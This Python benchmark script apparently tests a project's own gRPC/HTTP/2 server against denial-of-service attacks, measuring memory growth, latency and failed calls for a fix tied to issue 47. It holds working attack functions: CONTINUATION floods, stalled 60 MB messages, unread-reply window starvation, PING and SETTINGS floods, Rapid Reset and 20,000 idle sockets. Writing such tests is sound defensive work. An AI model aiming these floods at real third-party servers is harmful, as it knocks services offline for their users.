"""Issue 47, faults 1-7: HTTP/2 attacks on Tulip's own gRPC server (tulip.h2server), each against a
fresh real CPU Tulip (`python -m tulip --model default`), measured by the Tulip's RSS growth (peak
during the attack less the RSS before it) and by an independent caller: grpcio's client sending a
16-token Embed every 50 ms on its own connection (its worst latency, and the calls that failed); and
by the engine, from the Tulip's metrics: the queue's peak, tokens computed, steps and their mean time,
requests by status. `read_replies` is `unread_replies`' baseline: the same calls from a client that
reads its replies (what a heavy legitimate client costs the engine and its neighbours).

    python -m benchmarks.attacks.h2 [--root /tmp/old] [--only NAME ...] [--seconds 10] [--out FILE.jsonl]

`--root`: the checkout whose `tulip` runs (e.g. an export of the commit before the fix); this
checkout's venv runs it. One JSON line per attack; the attack's own outcome in `outcome` (how the
server ended it: GOAWAY code, connection closed, or nothing)."""

from __future__ import annotations

import argparse
import json
import os
import resource
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import grpc

from benchmarks.common import free_port
from benchmarks.h2raw import RawH2, frame, grpc_message, request_block
from trellis.h2frames import CONTINUATION, DATA, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE

HERE = Path(__file__).resolve().parents[2]
MiB = 1 << 20
EMBED = "/trellis.tulip.v1.Tulip/Embed"
STREAM = "/trellis.tulip.v1.Tulip/EmbedStream"




def embed_request(n: int = 16, seqs: int = 1) -> bytes:
    from trellis.tulip.v1 import tulip_pb2

    ids = struct.pack(f"<{n * seqs}I", *([101] * (n * seqs)))
    return tulip_pb2.EmbedRequest(request_id="a", token_ids=ids, lengths=[n] * seqs).SerializeToString()


def rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


class Tulip:
    def __init__(self, root: Path, log: Path, device: str = "cpu", model: str = "default", batch_tokens: int = 0):
        self.port, self.metrics_port = free_port(), free_port()
        env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [str(root), os.environ.get("PYTHONPATH")])),
                   PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1")  # the tree first, then what the caller had
        self.p = subprocess.Popen([sys.executable, "-m", "tulip", "--model", model, "--device", device,
                                   "--port", str(self.port), "--max-queued-tokens", "200000",
                                   "--metrics-port", str(self.metrics_port)]
                                  + (["--max-batch-tokens", str(batch_tokens)] if batch_tokens else []),
                                  cwd=root, env=env, stdout=log.open("w"), stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 180
        while "TULIP_READY" not in log.read_text():
            if self.p.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(log.read_text()[-2000:])
            time.sleep(0.1)

    def stop(self):
        self.p.kill()
        self.p.wait()

    def metrics(self) -> dict[str, float]:
        """Tulip's Prometheus metrics, `name{labels}` -> value ({} when they cannot be read)."""
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.metrics_port}/metrics", timeout=5) as r:
                text = r.read().decode()
        except OSError:
            return {}
        return {k: float(v) for k, _, v in (line.rpartition(" ") for line in text.splitlines())
                if k and not k.startswith("#")}


class Watch:
    """The Tulip's RSS every 50 ms, and the independent caller's Embed every 50 ms."""

    def __init__(self, tulip: Tulip):
        self.tulip, self.stop = tulip, threading.Event()
        self.rss, self.lat, self.failed, self.queued = [], [], [], []
        self.channel = grpc.insecure_channel(f"127.0.0.1:{tulip.port}")
        self.embed = self.channel.unary_unary(EMBED, request_serializer=None, response_deserializer=None)
        self.embed(embed_request(), timeout=30)
        self.base = rss_kib(tulip.p.pid)
        self.m0 = tulip.metrics()
        self.threads = [threading.Thread(target=f, daemon=True) for f in (self._rss, self._probe, self._queue)]

    def _queue(self):
        while not self.stop.wait(0.25):
            self.queued.append(self.tulip.metrics().get("tulip_queue_tokens", 0.0))

    def _rss(self):
        while not self.stop.wait(0.05):
            try:
                self.rss.append(rss_kib(self.tulip.p.pid))
            except OSError:
                return

    def _probe(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                self.embed(embed_request(), timeout=60)
            except grpc.RpcError as e:
                self.failed.append(e.code().name)
            self.lat.append(time.monotonic() - t0)
            self.stop.wait(0.05)

    def __enter__(self):
        for t in self.threads:
            t.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        for t in self.threads:
            t.join(70)
        self.channel.close()

    def result(self) -> dict:
        lat = sorted(self.lat) or [float("nan")]
        m1 = self.tulip.metrics()

        def grew(name: str) -> float:
            return m1.get(name, 0.0) - self.m0.get(name, 0.0)
        steps = grew("tulip_step_seconds_count")
        engine = {"queued_tokens_max": int(max(self.queued, default=0)),
                  "tokens_computed": int(grew("tulip_batch_tokens_sum")), "steps": int(steps),
                  "step_mean_s": round(grew("tulip_step_seconds_sum") / steps, 2) if steps else None,
                  "requests": {k.split('"')[1]: int(grew(k)) for k in m1
                               if k.startswith("tulip_requests_total{") and grew(k)}}
        return {**engine, "rss_before_mib": round(self.base / 1024, 1),
                "rss_growth_mib": round((max(self.rss, default=self.base) - self.base) / 1024, 1),
                "probe_calls": len(self.lat), "probe_p50_ms": round(lat[len(lat) // 2] * 1e3, 1),
                "probe_max_ms": round(lat[-1] * 1e3, 1), "probe_failed": len(self.failed)}


def outcome(c: RawH2) -> str:
    code = c.goaway(timeout=0.5)
    if code is not None:
        return f"GOAWAY {code:#x}"
    return "closed" if c.closed else "open"


def sender(c: RawH2, chunks, seconds: float) -> int:
    """Send chunk after chunk until the server stops taking them (closed, or blocked for 2 s) or time is
    up; the bytes sent."""
    c.sock.settimeout(2.0)
    sent, end = 0, time.monotonic() + seconds
    for chunk in chunks:
        if time.monotonic() > end:
            break
        try:
            c.sock.sendall(chunk)
        except (socket.timeout, OSError):
            break
        sent += len(chunk)
    return sent


# --- the attacks: each returns what to add to its row ---------------------------------------------


def continuation(port: int, seconds: float) -> dict:
    c = RawH2("127.0.0.1", port)
    c.send(frame(HEADERS, 0, 1, request_block(EMBED)))
    block = frame(CONTINUATION, 0, 1, b"\x00" * 16384)
    sent = sender(c, iter(lambda: block * 64, None), seconds)
    return {"sent_mb": round(sent / 1e6, 1), "outcome": outcome(c)}


def partial_messages(port: int, seconds: float) -> dict:
    """6 streams each promising a 60 MB message, then sending it slowly and never finishing."""
    c = RawH2("127.0.0.1", port)
    c.send(b"".join(c.headers(sid, EMBED) + frame(DATA, 0, sid, grpc_message(b"", 60_000_000))
                    for sid in range(1, 13, 2)))
    chunk = b"".join(frame(DATA, 0, sid, b"\x00" * 65536) for sid in range(1, 13, 2))

    def chunks():
        for _ in range(59_000_000 // 65536):
            yield chunk
    sent = sender(c, chunks(), seconds)
    return {"sent_mb": round(sent / 1e6, 1), "outcome": outcome(c)}


def _embed_calls(c: RawH2):
    """Embed calls of 128 x 8 tokens (replies ~200 KB each), one after the other, as bytes."""
    req = grpc_message(embed_request(8, 128))
    sid = 1
    while True:
        yield c.headers(sid, EMBED) + frame(DATA, END_STREAM, sid, req)
        sid += 2


def unread_replies(port: int, seconds: float) -> dict:
    """Calls whose replies (~200 KB each) are never read: the stream window 0, the socket never read.
    Sent until the server stops taking them (or `seconds`), then the connection is watched for as long
    again: when the server closed it (seconds from the first call)."""
    c = RawH2("127.0.0.1", port, settings=struct.pack(">HL", 0x4, 0))
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    t0 = time.monotonic()
    sent = sender(c, _embed_calls(c), seconds)
    sent_s = time.monotonic() - t0
    end, closed_s = time.monotonic() + seconds, None
    while time.monotonic() < end:
        if _closed(c):
            closed_s = round(time.monotonic() - t0, 1)
            break
        time.sleep(0.1)
    return {"calls_sent": sent // (len(grpc_message(embed_request(8, 128))) + 200),
            "sending_s": round(sent_s, 1), "outcome": "open" if closed_s is None else f"closed at {closed_s} s"}


def read_replies(port: int, seconds: float) -> dict:
    """The baseline of unread_replies: the same calls as fast, from a client that reads every reply
    (windows of 2^31 - 1, a thread draining the socket): what the engine's queue costs a legitimate
    heavy client's neighbours."""
    c = RawH2("127.0.0.1", port, settings=struct.pack(">HL", 0x4, 0x7FFFFFFF))
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 0x7FFFFFFF - 65535)))
    done, got = threading.Event(), [0, 0]  # bytes read, calls ended (HEADERS with END_STREAM)

    def reader():
        buf = b""
        while not done.is_set():
            try:
                chunk = c.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                return
            if not chunk:
                return
            got[0] += len(chunk)
            buf += chunk
            pos = 0
            while len(buf) - pos >= 9:
                n = int.from_bytes(buf[pos:pos + 3], "big")
                if len(buf) - pos < 9 + n:
                    break
                if buf[pos + 3] == HEADERS and buf[pos + 4] & END_STREAM:
                    got[1] += 1
                pos += 9 + n
            buf = buf[pos:]
    t = threading.Thread(target=reader, daemon=True)
    t.start()
    sent = sender(c, _embed_calls(c), seconds)
    done.set()
    t.join(5)
    c.close()
    return {"calls_sent": sent // (len(grpc_message(embed_request(8, 128))) + 200), "calls_ended": got[1],
            "read_mb": round(got[0] / 1e6, 1), "outcome": "read"}


def _closed(c: RawH2) -> bool:
    c.sock.setblocking(False)
    try:
        while c.sock.recv(1 << 20):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def ping_flood(port: int, seconds: float) -> dict:
    """PINGs (and empty SETTINGS) as fast as they go, from a peer that reads nothing."""
    c = RawH2("127.0.0.1", port)
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    burst = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 2000
    sent = sender(c, iter(lambda: burst, None), seconds)
    return {"frames_sent": sent // 26, "outcome": "closed" if _closed(c) else "open"}


def settings_walk(port: int, seconds: float) -> dict:
    """1,000 calls open, then SETTINGS frames of 60 INITIAL_WINDOW_SIZE entries, empty SETTINGS and
    WINDOW_UPDATEs, each of which the old server answered with a walk over every call."""
    c = RawH2("127.0.0.1", port)
    c.send(b"".join(c.headers(sid, STREAM) for sid in range(1, 2001, 2)))
    entries = b"".join(struct.pack(">HL", 0x4, 65535 + i) for i in range(60))
    burst = (frame(SETTINGS, 0, 0, entries) + frame(SETTINGS, 0, 0)
             + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))) * 200
    sent = sender(c, iter(lambda: burst, None), seconds)
    return {"frames_sent": sent // (len(burst) // 600), "outcome": outcome(c)}


def rapid_reset(port: int, seconds: float) -> dict:
    """HEADERS + a request + RST_STREAM, stream after stream (the frames made beforehand: the client's
    Python is not the bottleneck); a new connection whenever one is closed."""
    req = grpc_message(embed_request())
    c = RawH2.__new__(RawH2)
    bursts = [b"".join(RawH2.headers(c, s, EMBED) + frame(DATA, END_STREAM, s, req)
                       + frame(RST_STREAM, 0, s, struct.pack(">L", 8)) for s in range(sid, sid + 200, 2))
              for sid in range(1, 100_000, 200)]
    streams, conns, outcomes, end = 0, 0, set(), time.monotonic() + seconds
    while time.monotonic() < end:
        c = RawH2("127.0.0.1", port)
        conns += 1
        for burst in bursts:
            if time.monotonic() > end or not c.send(burst):
                break
            streams += 100
            c.read(0)
            if c.closed or any(f[0] == 7 for f in c.got):
                break
        outcomes.add(outcome(c))
        c.close()
    return {"streams_sent": streams, "connections": conns, "outcome": ", ".join(sorted(outcomes))}


def idle_sockets(port: int, seconds: float) -> dict:
    """20,000 connections that send nothing (no preface)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socks, refused = [], 0
    for _ in range(20000):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            socks.append(s)
        except OSError:
            refused += 1
    time.sleep(seconds)
    alive = 0
    for s in socks:
        s.setblocking(False)
        try:
            alive += s.recv(1) != b""
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    return {"opened": len(socks), "connect_failed": refused, "still_open": alive}


ATTACKS = {"continuation": continuation, "partial_messages": partial_messages, "unread_replies": unread_replies,
           "read_replies": read_replies,
           "ping_flood": ping_flood, "settings_walk": settings_walk, "rapid_reset": rapid_reset,
           "idle_sockets": idle_sockets}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--root", type=Path, default=HERE)
    ap.add_argument("--only", nargs="*", default=list(ATTACKS))
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--model", default="default", help="the Tulip's model (e.g. preset:bge-m3 on a GPU)")
    ap.add_argument("--device", default="cpu", help="the Tulip's device (cuda: the engine's steps take ms, not s)")
    ap.add_argument("--max-batch-tokens", type=int, default=0,
                    help="the Tulip's step budget (0: its default, 16,384 tokens; on a CPU a 16,384-token step of "
                         "the attack's calls takes ~10 s, so what a stall costs another caller hides behind one step)")
    ap.add_argument("--out", type=Path, default=None)
    ap.add_argument("--warm-s", type=float, default=0.0,
                    help="first serve `read_replies`' legitimate load for this long (0: none), so that the RSS growth "
                         "counted is the attack's own, not what any first heavy client costs a fresh Tulip (graph "
                         "captures and pinned staging of its shapes)")
    ap.add_argument("--rounds", type=int, default=1,
                    help="run each attack this many times on the same Tulip, one row per round (round 2 on: what the "
                         "attack costs a Tulip that has met it before, its shapes' graphs already captured)")
    args = ap.parse_args(argv)
    for name in args.only:
        log = Path(f"/tmp/tulip-attack-{name}.log")
        tulip = Tulip(args.root, log, args.device, args.model, args.max_batch_tokens)
        try:
            if args.warm_s:
                read_replies(tulip.port, args.warm_s)
                time.sleep(1.0)
            for round_ in range(1, args.rounds + 1):
                with Watch(tulip) as w:
                    t0 = time.monotonic()
                    extra = ATTACKS[name](tulip.port, args.seconds)
                    took = time.monotonic() - t0
                    time.sleep(1.0)
                row = {"bench": "tulip-h2-attack", "attack": name, "round": round_, "root": str(args.root),
                       "max_batch_tokens": args.max_batch_tokens or None,
                       "attack_s": round(took, 1), "warm_s": args.warm_s, "device": args.device, "model": args.model,
                       "date": time.strftime("%Y-%m-%d"), **extra, **w.result(), "tulip_alive": tulip.p.poll() is None}
                print(json.dumps(row), flush=True)
                if args.out:
                    with args.out.open("a") as f:
                        f.write(json.dumps(row) + "\n")
        finally:
            tulip.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
